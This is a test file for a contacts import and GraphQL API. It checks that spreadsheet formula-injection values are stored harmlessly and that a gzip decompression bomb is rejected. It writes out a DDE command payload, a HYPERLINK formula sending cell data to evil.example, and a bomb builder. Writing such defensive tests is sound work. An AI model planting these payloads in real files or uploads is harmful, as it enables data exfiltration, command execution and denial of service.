import { gzipSync } from 'node:zlib';
import { importText } from '../features/imports/import-support';
import { contacts } from '../features/imports/mappings';
import { openApi, type TestApi } from '../support/api';

const HEADER = 'id;at;agent';
const MEGABYTE = 1_000_000;
/** What a table program would take for a formula, a command or another cell. */
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1)',
  '+420 601 234 567',
  '-2+3+cmd',
  '@SUM(1+1)',
  '\t=1+1',
  '｜＝1+1',
];

let api: TestApi;
beforeAll(async () => {
  api = await openApi();
});
afterAll(() => api.close());

describe('values that a table program would take for a formula', () => {
  test('come in as they are, and out in JSON alone', async () => {
    const rows = FORMULAS.map(
      (formula, id) => `${String(id)};2026-02-02 10:00;"${formula.replaceAll('"', '""')}"`,
    );
    expect(await importText(api.database.db, [HEADER, ...rows, ''].join('\n'), contacts)).toMatchObject({
      inserted: FORMULAS.length,
    });
    const { interactions } = await api.ask<{ interactions: { nodes: { agent: { name: string } }[] } }>(
      '{ interactions(first: 20) { nodes { agent { name } } } }',
    );
    const trimmed = FORMULAS.map((formula) => formula.trim()).sort();
    expect(interactions.nodes.map(({ agent }) => agent.name.trim()).sort()).toEqual(trimmed);
  });

  test('stand in the file of rejects as in the file that was delivered, inside JSON: no cell begins with one', async () => {
    const rows = FORMULAS.map((formula) => `${formula};yesterday;Eva`);
    const { rejects } = await importText(api.database.db, [HEADER, ...rows, ''].join('\n'), contacts);
    expect(rejects.map(({ raw }) => raw)).toEqual(rows);
  });
});

describe('what grows when it is unpacked', () => {
  /** Members of one archive: what they unpack to is never held as a whole, not even here. */
  const bomb = (megabytes: number): Buffer => {
    const member = gzipSync(Buffer.alloc(10 * MEGABYTE, 'x'));
    return Buffer.concat(Array.from({ length: megabytes / 10 }, () => member));
  };

  test('is given up as an import at the first line without an end, in little memory', async () => {
    const archive = bomb(1_000);
    expect(archive.length).toBeLessThan(2 * MEGABYTE);
    const before = process.memoryUsage().rss;
    await expect(importText(api.database.db, archive, contacts)).rejects.toThrow(
      'longer than 1000000 characters',
    );
    expect(process.memoryUsage().rss - before).toBeLessThan(300 * MEGABYTE);
  });

  test.each(['gzip', 'br', 'deflate', 'gzip, gzip'])('is not unpacked as a body: %s', async (encoding) => {
    const response = await fetch(`${api.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'content-encoding': encoding },
      body: bomb(50),
    });
    expect([response.status, await response.json()]).toMatchObject([
      415,
      { errors: [{ message: expect.stringContaining('must not be compressed') as string }] },
    ]);
  });
});
